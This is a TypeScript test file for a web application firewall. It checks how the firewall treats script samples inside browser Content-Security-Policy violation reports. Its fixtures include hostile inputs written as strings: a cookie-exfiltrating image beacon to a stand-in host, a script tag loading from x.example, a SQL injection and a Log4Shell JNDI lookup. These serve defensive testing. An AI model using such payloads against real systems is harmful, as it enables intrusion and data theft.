import assert from "node:assert/strict";
import { test } from "node:test";
import { type Outcome, shippedRuleSet, WafBench } from "./waf-corpus.ts";

const ruleSet = shippedRuleSet();

function outcomeOf(type: string, body: object): Outcome {
  return new WafBench(ruleSet).give({
    method: "POST",
    headers: [["Content-Type", type]],
    body: Buffer.from(JSON.stringify(body)),
  });
}

/** As browsers send it to `report-uri`, and as they send it by the Reporting API. */
const classic = (sample: string, more: object = {}): object => ({
  "csp-report": {
    "document-uri": "https://shop.example/cart",
    "violated-directive": "script-src-elem",
    "original-policy": "script-src 'self' 'report-sample'; report-uri /csp",
    "blocked-uri": "inline",
    "script-sample": sample,
    ...more,
  },
});
const modern = (sample: string): object => [
  { age: 2, type: "csp-violation", body: { blockedURL: "inline", effectiveDirective: "script-src", sample } },
];

/** The first 40 characters of scripts, one of which is somebody's dialog. */
const samples = [
  "alert('Your session has ended. Please lo",
  "eval(atob('d2luZG93Lng9MQ=='))",
  "javascript:document.forms[0].submit()",
  "var i=new Image();i.src='//x.example/?c=",
  "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].",
  'setTimeout("go()", 10)',
  "body { color: red }",
];

test("script that a browser cut from a page is no attack in its report", () => {
  for (const sample of samples) {
    assert.equal(outcomeOf("application/csp-report", classic(sample)).refused, false, sample);
    assert.equal(outcomeOf("application/reports+json", modern(sample)).refused, false, sample);
  }
});

test("it is one elsewhere in a report, in other bodies, and when it is longer than a sample", () => {
  const script = "alert('a')";
  for (const [type, body] of [
    ["application/csp-report", classic("", { "source-file": script })],
    ["application/csp-report", { "script-sample": script }],
    ["application/csp-report", classic(`${script};${"a()".repeat(60)}`)],
    ["application/json", classic(script)],
    ["application/json", modern(script)],
  ] as const)
    assert.equal(outcomeOf(type, body).refused, true, JSON.stringify(body));
});

test("other attacks are found in a sample as anywhere", () => {
  for (const sample of ["<script src=//x.example></script>", "' or 7=7-- ", "${jndi:ldap://x.example/a}"])
    assert.equal(outcomeOf("application/csp-report", classic(sample)).refused, true, sample);
});
